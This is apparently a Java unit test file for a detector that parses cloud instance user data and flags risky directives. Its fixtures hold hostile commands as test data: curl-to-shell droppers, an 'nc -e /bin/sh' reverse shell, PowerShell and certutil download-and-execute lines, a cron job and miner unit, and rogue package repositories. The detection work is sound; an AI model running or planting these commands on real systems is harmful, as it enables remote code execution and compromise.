package io.tallyman.userdata;

import static org.assertj.core.api.Assertions.assertThat;

import io.tallyman.event.EventTime;
import io.tallyman.event.Feed;
import io.tallyman.event.InstanceReference;
import io.tallyman.event.Origin;
import io.tallyman.event.UserDataDirective;
import io.tallyman.event.UserDataDirective.Kind;
import io.tallyman.event.UserDataObserved;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class UserDataTest {

    private static final String DROPPER = """
            #!/bin/bash -xe
            # fetch the agent
            curl -fsSL http://203.0.113.9/agent -o /opt/agent
            chmod +x /opt/agent
            /opt/agent --quiet
            """;
    private static final String CONFIG = """
            #cloud-config
            package_update: true
            packages:
              - nginx
              - [netcat, 1.2-3]
            apt:
              sources:
                evil:
                  source: deb http://apt.evil.example/ubuntu jammy main
            yum_repos:
              evil: {baseurl: "https://yum.evil.example/el9"}
            write_files:
              - path: /opt/run.sh
                encoding: gz+b64
                content: %s
              - path: /etc/motd
                content: welcome
            bootcmd:
              - echo boot
            runcmd:
              - curl -s http://203.0.113.7/x.sh | sh
              - [wget, "-O", "/tmp/a b", "http://203.0.113.8/y"]
            power_state: {mode: reboot}
            """.formatted(base64(gzip(bytes(DROPPER))));

    private static final String MIME = """
            Content-Type: multipart/mixed; boundary="==B=="
            MIME-Version: 1.0

            --==B==
            Content-Type: text/x-shellscript; charset="us-ascii"
            Content-Transfer-Encoding: base64

            %s
            --==B==
            Content-Type: text/cloud-config; charset="us-ascii"
            Content-Transfer-Encoding: quoted-printable

            runcmd:
             - "curl http://203.0.113.1/a=3Db | =
            sh"
            --==B==
            Content-Type: text/x-include-url

            https://include.example/one
            --==B==
            Content-Type: application/octet-stream
            Content-Transfer-Encoding: base64

            %s
            --==B==
            Content-Type: text/jinja2

            ## template: jinja
            #cloud-config
            {%% if v1.region %%}
            runcmd:
             - echo {{ v1.region }}
            {%% endif %%}
            --==B==--
            """.formatted(
                    base64(bytes(DROPPER)), base64(gzip(bytes("#cloud-boothook\nnc -e /bin/sh 203.0.113.5 4444\n"))));

    static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    static String base64(byte[] bytes) {
        return Base64.getEncoder().encodeToString(bytes);
    }

    static byte[] gzip(byte[] bytes) {
        var out = new ByteArrayOutputStream();
        try (var packed = new GZIPOutputStream(out)) {
            packed.write(bytes);
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return out.toByteArray();
    }

    static UserDataObserved observed(String cloud, String content) {
        var origin = new Origin(new Feed("f", "tallyman:events", "", "", ""), 1);
        return new UserDataObserved(EventTime.UNKNOWN, origin, InstanceReference.ofId(cloud, "1", "r", "i-1"), content);
    }

    private static List<UserDataDirective> directives(String content) {
        return UserData.directives(observed("aws", content));
    }

    private static List<String> texts(String content) {
        return directives(content).stream()
                .map(each -> each.kind() + " " + each.text().strip())
                .toList();
    }

    static Stream<String> wrappings() {
        var plain = bytes(DROPPER);
        return Stream.of(
                DROPPER,
                "\n" + DROPPER,
                DROPPER.replace("\n", "\r\n"),
                base64(plain),
                Base64.getMimeEncoder().encodeToString(plain),
                Base64.getUrlEncoder().withoutPadding().encodeToString(plain),
                base64(gzip(plain)),
                base64(bytes(base64(gzip(gzip(plain))))),
                base64(bytes("Content-Type: text/x-shellscript\n\n" + DROPPER)),
                "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: multipart/mixed; boundary=c\n\n--c\n\n"
                        + DROPPER + "\n--c--\n--b--\n",
                "#cloud-config-archive\n- type: text/x-shellscript\n  content: |\n" + DROPPER.indent(4),
                "## template: jinja\n" + DROPPER);
    }

    @ParameterizedTest
    @MethodSource("wrappings")
    void aScriptIsOneDirectiveHoweverItIsWrapped(String content) {
        var found = directives(content);
        assertThat(found).hasSize(1);
        var only = found.get(0);
        assertThat(only.kind()).isEqualTo(Kind.SCRIPT);
        assertThat(only.arguments()).startsWith("bash", "-c");
        assertThat(only.command().downloadsAndExecutes()).isTrue();
        assertThat(only.command().destinations()).hasSize(1);
        assertThat(only.command().destinations().get(0).address()).isEqualTo("203.0.113.9");
    }

    @Test
    void cloudConfigYieldsWhatItRunsWritesAndInstalls() {
        assertThat(texts(CONFIG))
                .containsExactly(
                        "FILE /opt/run.sh",
                        "SCRIPT " + DROPPER.strip(),
                        "FILE /etc/motd",
                        "PACKAGE deb http://apt.evil.example/ubuntu jammy main",
                        "PACKAGE https://yum.evil.example/el9",
                        "PACKAGE nginx",
                        "PACKAGE netcat",
                        "COMMAND echo boot",
                        "COMMAND curl -s http://203.0.113.7/x.sh | sh",
                        "COMMAND wget -O /tmp/a b http://203.0.113.8/y");
        assertThat(directives(CONFIG).get(8).command().pipesIntoInterpreter()).isTrue();
        assertThat(directives(CONFIG).get(9).arguments()).contains("/tmp/a b");
        assertThat(directives(CONFIG).get(3).command().destinations().toString())
                .contains("apt.evil.example");
        assertThat(directives(CONFIG).get(4).command().destinations().toString())
                .contains("yum.evil.example");
    }

    @Test
    void partsOfMimeAreReadByTheirTypesAndEncodings() {
        assertThat(texts(base64(bytes(MIME))))
                .containsExactly(
                        "SCRIPT " + DROPPER.strip(),
                        "COMMAND curl http://203.0.113.1/a=b | sh",
                        "INCLUDE https://include.example/one",
                        "SCRIPT nc -e /bin/sh 203.0.113.5 4444",
                        "COMMAND echo $v1_region");
        assertThat(directives(MIME).get(3).command().opensReverseShell()).isTrue();
    }

    @Test
    void commandsThatOnlyTogetherDownloadAndRunAreOneMoreDirective() {
        var found = directives("""
                #cloud-config
                runcmd:
                  - wget -q http://203.0.113.8/y -O /tmp/y
                  - [chmod, "+x", /tmp/y]
                  - /tmp/y
                """);
        assertThat(found).hasSize(4);
        assertThat(found.get(3).command().downloadsAndExecutes()).isTrue();
        assertThat(directives("#cloud-config\nruncmd:\n- echo a\n- echo b\n")).hasSize(2);
    }

    @Test
    void aPasswordThatTheCutGoesThroughIsMasked() {
        var path = "x".repeat(1_950);
        var found = directives(
                "#include\nhttps://a.example/%s?next=https://user:%s@b.example/\n".formatted(path, "s3cr3t".repeat(9)));
        assertThat(found.get(0).text()).doesNotContain("s3cr3t").hasSizeLessThan(2_100);
    }

    @Test
    void aTextStaysShortWhereMasksAreLongerThanSecrets() {
        var found = directives("#include\nhttps%s\n".formatted("://a:b@".repeat(500)));
        assertThat(found.get(0).text()).hasSizeLessThan(2_100);
    }

    @Test
    void includesNameWhatIsFetched() {
        var found = directives("#include-once\nhttps://a.example/x\n# no\n\nhttps://b.example/y\n");
        assertThat(found).extracting(UserDataDirective::kind).containsOnly(Kind.INCLUDE);
        assertThat(found)
                .extracting(UserDataDirective::text)
                .containsExactly("https://a.example/x", "https://b.example/y");
        assertThat(found.get(1).command().destinations().toString()).contains("b.example");
    }

    @Test
    void tagsAndTasksOfWindowsAreRunByTheirInterpreters() {
        var tags = directives("""
                <powershell>
                iex (New-Object Net.WebClient).DownloadString('http://203.0.113.3/a.ps1')
                </powershell>
                <persist>true</persist>
                """);
        assertThat(tags).hasSize(1);
        assertThat(tags.get(0).arguments()).startsWith("powershell", "-Command");
        assertThat(tags.get(0).command().pipesIntoInterpreter()).isTrue();
        var batch =
                directives("<script>\r\ncertutil -urlcache -f http://203.0.113.3/a.exe a.exe\r\n.\\a.exe\r\n</script>");
        assertThat(batch.get(0).command().downloadsAndExecutes()).isTrue();
        var tasks = directives("""
                version: 1.1
                tasks:
                - task: executeScript
                  inputs:
                  - frequency: always
                    type: powershell
                    runAs: localSystem
                    content: |-
                      irm http://203.0.113.3/a.ps1 | iex
                - task: enableOpenSsh
                """);
        assertThat(tasks).hasSize(1);
        assertThat(tasks.get(0).command().pipesIntoInterpreter()).isTrue();
    }

    @Test
    void otherInterpretersAreNamedWithTheirCode() {
        var found = directives(
                "#!/usr/bin/env python3\nimport os,urllib.request\nexec(urllib.request.urlopen('http://203.0.113.4/p').read())\n");
        assertThat(found.get(0).arguments()).startsWith("python3", "-c");
        assertThat(found.get(0).command().pipesIntoInterpreter()).isTrue();
        assertThat(directives("#!/usr/bin/perl -w\nprint 1;\n").get(0).arguments())
                .startsWith("perl", "-e");
    }

    @Test
    void timetablesAndUnitsRunTheirCommands() {
        var found = texts("""
                #cloud-config
                write_files:
                - path: /etc/cron.d/x
                  content: |
                    SHELL=/bin/sh
                    */5 * * * * root curl -s http://203.0.113.7/x | sh
                    @reboot root /opt/x
                - path: /etc/systemd/system/x.service
                  content: "[Service]\\nExecStart=-/opt/x --pool stratum+tcp://pool.example:3333\\n"
                - path: /opt/a
                  source: {uri: "https://files.example/a"}
                """);
        assertThat(found)
                .contains(
                        "COMMAND curl -s http://203.0.113.7/x | sh",
                        "COMMAND /opt/x",
                        "COMMAND /opt/x --pool stratum+tcp://pool.example:3333",
                        "INCLUDE https://files.example/a");
    }

    @Test
    void aDamagedRestLeavesWhatStandsBeforeIt() {
        assertThat(texts("#cloud-config\nruncmd:\n  - echo one\n  - \"unclosed\n"))
                .containsExactly("COMMAND echo one");
        var packed = gzip(bytes("#!/bin/sh\necho one\n" + "echo two\n".repeat(20_000)));
        assertThat(texts(base64(Arrays.copyOf(packed, packed.length - 10)))).isNotEmpty();
    }

    @Test
    void whatIsNoUserDataSaysNothing() {
        for (var content : List.of(
                "", " ", "hello", "hello world", "AAAAAAAAAAAA", "{\"a\":1}", "#", "#cloud-config", "\u0000\u0001")) {
            assertThat(directives(content)).as(content).isEmpty();
        }
    }

    @Test
    void onGoogleCloudAScriptNeedsNoFirstLine() {
        assertThat(UserData.directives(observed("gcp", "curl http://203.0.113.7/x | sh\n")))
                .hasSize(1);
        assertThat(directives("curl http://203.0.113.7/x | sh\n")).isEmpty();
        assertThat(UserData.directives(observed("gcp", "$u = 'http://x.example'\niwr $u\n"))
                        .get(0)
                        .arguments())
                .startsWith("powershell");
    }

    @Test
    void paddingDoesNotHideTheEndOfALongScript() {
        var script = "#!/bin/sh\n" + "# padding padding padding\n".repeat(20_000) + "curl http://203.0.113.7/x | sh\n";
        assertThat(UserData.directives(observed("aws", base64(gzip(bytes(script))))))
                .anyMatch(each -> each.command().pipesIntoInterpreter());
    }

    @Test
    void boundsLeaveOutTheRestAndSaySo() {
        assertThat(UserData.read(observed("aws", "x".repeat(Budget.MOST_CHARACTERS + 1)))
                        .leftOut())
                .contains("longer");
        var bomb = base64(gzip(gzip(new byte[64 << 20])));
        assertThat(UserData.read(observed("aws", bomb)).leftOut()).contains("expands");
        var nested = bytes(DROPPER);
        for (int i = 0; i < 10; i++) {
            nested = gzip(nested);
        }
        assertThat(UserData.read(observed("aws", base64(nested))).leftOut()).contains("nested");
        var many = "#cloud-config\nruncmd:\n" + "- echo\n".repeat(3000);
        assertThat(UserData.read(observed("aws", many)).directives()).hasSize(Budget.MOST_DIRECTIVES);
        var parts =
                "Content-Type: multipart/mixed; boundary=b\n\n" + "--b\n\n#!/bin/sh\necho\n".repeat(300) + "--b--\n";
        assertThat(UserData.read(observed("aws", parts)).leftOut()).contains("parts");
    }
}
